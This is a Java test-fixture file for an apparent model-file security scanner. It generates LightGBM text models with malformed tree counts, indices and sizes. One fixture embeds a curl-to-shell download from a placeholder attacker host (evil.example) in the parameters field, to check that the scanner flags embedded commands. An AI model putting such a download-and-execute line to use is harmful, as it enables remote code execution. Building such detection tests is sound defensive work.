package dev.assay.detectors.model.lightgbm;

import dev.assay.detectors.model.FormatCase;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** Makes models of LightGBM, good and bad. */
public final class LightgbmSamples {
    private LightgbmSamples() {}

    private static byte[] model(String sizes, String feature, String left, String leaves, String data) {
        String text = "tree\nversion=v4\nnum_class=1\nmax_feature_idx=2\nfeature_names=f0 system_health f2\ntree_sizes="
                + sizes + "\n\nTree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=" + feature
                + "\nthreshold=0.5 1e-3\ndecision_type=2 2\nleft_child=" + left + "\nright_child=-2 -3\nleaf_value="
                + leaves + "\nshrinkage=1\n\nend of trees\n\nparameters:\n[data: " + data + "]\nend of parameters\n";
        return text.getBytes(StandardCharsets.UTF_8);
    }

    public static List<FormatCase> cases() {
        return List.of(
                FormatCase.of("sound.txt", model("300", "0 2", "1 -1", "0.1 0.2 -3", "")),
                FormatCase.of(
                        "count.txt", model("300 300", "0 2", "1 -1", "0.1 0.2 0.3", ""), "model/lightgbm-tree-count"),
                FormatCase.of(
                        "feature.txt", model("300", "0 9", "1 -1", "0.1 0.2 0.3", ""), "model/lightgbm-index-bounds"),
                FormatCase.of(
                        "child.txt", model("300", "0 2", "9 -1", "0.1 0.2 0.3", ""), "model/lightgbm-index-bounds"),
                FormatCase.of(
                        "leaf.txt", model("300", "0 2", "1 -9", "0.1 0.2 0.3", ""), "model/lightgbm-index-bounds"),
                FormatCase.of(
                        "order.txt",
                        new String(model("300", "0 9", "1 -1", "0.1 0.2 0.3", ""), StandardCharsets.UTF_8)
                                .replace("version=v4\n", "note=1\n")
                                .getBytes(StandardCharsets.UTF_8),
                        "model/lightgbm-index-bounds"),
                FormatCase.of("length.txt", model("300", "0 2", "1 -1", "0.1 0.2", ""), "model/lightgbm-tree-size"),
                FormatCase.of(
                        "command.txt",
                        model("300", "0 2", "1 -1", "0.1 0.2 0.3", "os.system('curl http://evil.example | sh')"),
                        "model/embedded-command",
                        "code/python-shell-download",
                        "code/python-process"),
                FormatCase.of("number.txt", model("300", "0 2", "1 -1", "1".repeat(100), ""), "gap:malformed"));
    }

    public static Map<String, byte[]> all() {
        return FormatCase.bytesByName(cases());
    }
}
